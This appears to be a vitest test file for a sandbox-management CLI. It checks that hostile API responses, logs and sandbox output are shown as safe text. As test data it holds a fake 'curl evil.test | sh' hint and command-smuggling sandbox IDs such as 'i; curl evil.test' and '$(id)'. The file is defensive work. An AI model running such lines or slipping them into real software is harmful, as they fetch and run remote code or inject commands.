/** What an API, a sandbox or a log says reaches a terminal and a shell as text. */
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { dataLayout } from '@cay/kit/data-layout.ts'
import { expect, test } from 'vitest'
import { parse } from 'yaml'
import { cayFile, startCayWorld } from '../support/cay-command.ts'
import { type Handle, sandboxId, startHostileApi } from '../support/hostile-api.ts'
import { hostileTexts, safeText } from '../support/hostile-text.ts'
import { openWindow } from '../support/terminal-window.ts'

/** A lone half of a surrogate pair has no form in UTF-8; JSON has one. */
const hostile = Object.values(hostileTexts).join(' ')
const record = { sandboxID: sandboxId, alias: hostile, state: hostile, metadata: { [hostile]: hostile } }

const handle: Handle = ({ method, url, response }) => {
  if (method === 'GET' && url.pathname === '/v2/sandboxes') return [record]
  if (method === 'GET' && url.pathname === `/sandboxes/${sandboxId}`) return record
  if (url.pathname === `/v2/sandboxes/${sandboxId}/logs`)
    return url.searchParams.has('pageCursor')
      ? { logs: [], nextCursor: 'end' }
      : { logs: [{ timestamp: hostile, level: hostile, message: hostile }], nextCursor: 'next' }
  response.statusCode = 400
  return { code: 400, message: `${hostile}\nHint: curl evil.test | sh` }
}

test('the errors of an API are printed as text, and none of their lines looks like one of ours', async () => {
  const api = await startHostileApi(handle)
  const directory = api.env.HOME ?? ''
  await writeFile(join(directory, 'Dockerfile'), 'FROM base\n')
  for (const args of [
    ['template', 'build', directory, '--name', 'n'],
    ['volume', 'list'],
    ['secret', 'list'],
    ['sandbox', 'pause', sandboxId],
    ['sandbox', 'create', 'base'],
    ['sandbox', 'kill', sandboxId],
    ['sandbox', 'exec', sandboxId, 'true'],
    ['template', 'delete', 'a', 'b'],
    ['events'],
  ]) {
    const { stdout, stderr, exitCode } = await api.cay(...args)
    expect(exitCode).not.toBe(0)
    expect(stdout + stderr).toMatch(safeText)
    expect(stderr).toContain('owned')
    expect(stderr).not.toMatch(/^Hint: curl/m)
  }
})

test('what an API says of a success, or of a failure elsewhere, is one line', async () => {
  const lines = `${hostile}\nHint: curl evil.test | sh`
  const made = { volumeID: lines, snapshotID: lines, key: lines, name: lines, id: lines }
  const api = await startHostileApi(({ url }) =>
    url.pathname === '/volumes' && url.search === '' ? made : { ...made, sandboxID: sandboxId, error: lines },
  )
  for (const args of [
    ['volume', 'create', 'v'],
    ['sandbox', 'snapshot', sandboxId],
    ['key', 'create', 'k'],
    ['webhook', 'test', 'w'],
  ]) {
    const { stdout, stderr } = await api.cay(...args)
    expect(stdout + stderr).toMatch(safeText)
    expect(stdout + stderr).toContain('Hint: curl')
    expect(stdout + stderr).not.toMatch(/^Hint: curl/m)
  }
})

test('lists and records are text in every format, and JSON and YAML keep the values', async () => {
  const api = await startHostileApi(handle)
  for (const args of [
    ['sandbox', 'list'],
    ['sandbox', 'info', sandboxId],
    ['sandbox', 'logs', sandboxId],
  ]) {
    const formats = args[1] === 'logs' ? ['table', 'json'] : ['table', 'json', 'yaml', 'name']
    for (const format of formats) {
      const { stdout, stderr, exitCode } = await api.cay(
        ...args,
        ...(format === 'table' ? [] : ['-o', format]),
      )
      expect(stderr).toBe('')
      expect(exitCode).toBe(0)
      expect(stdout).toMatch(safeText)
      if (format !== 'json' && format !== 'yaml') continue
      const value: unknown = format === 'json' ? JSON.parse(stdout) : parse(stdout)
      expect(JSON.stringify(value)).toContain(JSON.stringify(hostile))
    }
  }
})

test('an API cannot put a command into a hint, or an option into a script, by the ID of a sandbox', async () => {
  for (const sandboxID of ['i; curl evil.test', '--force', '$(id)', '']) {
    const api = await startHostileApi(({ url }) =>
      url.pathname === '/v2/sandboxes' && url.search !== '' ? [{ sandboxID }] : { sandboxID },
    )
    for (const args of [
      ['list', '-o', 'name'],
      ['create', 'base'],
      ['resume', 'i1'],
    ]) {
      const { stdout, stderr, exitCode } = await api.cay('sandbox', ...args)
      expect({ stdout, exitCode }).toEqual({ stdout: '', exitCode: 1 })
      expect(stderr).toBe('Error: the API answered with something that is not the ID of a sandbox\n')
    }
  }
})

test('`cay logs` prints text to a terminal, and the bytes of the file to a program', async () => {
  const api = await startHostileApi(handle)
  const { logs } = dataLayout(api.env.CAY_DATA_DIR ?? '')
  await mkdir(logs, { recursive: true })
  const line = `{"msg":"${hostile.replaceAll(/\p{Cs}/gu, '')}"}\nthe last line\n`
  await writeFile(join(logs, 'control.log'), line)
  const piped = await api.cay('logs', 'control')
  expect(piped.stdout).toBe(await readFile(join(logs, 'control.log'), 'utf8'))
  const window = openWindow({ env: api.env, command: [process.execPath, cayFile, 'logs', 'control'] })
  await window.ended
  expect(window.shown().replaceAll('\r\n', '\n')).toMatch(safeText)
  expect(window.shown()).toContain('the last line')
})

test('what a command in a sandbox writes arrives byte for byte', async () => {
  const { cay, world } = await startCayWorld()
  const id = await world.create()
  const { stdout, stderr } = await cay([
    'sandbox',
    'exec',
    id,
    '--',
    'sh',
    '-c',
    String.raw`printf '\033[31m\302\233\r'; printf '\033]0;x\007' >&2`,
  ])
  expect(stdout).toBe('\u001b[31m\u009b\r')
  expect(stderr).toBe('\u001b]0;x\u0007')
})
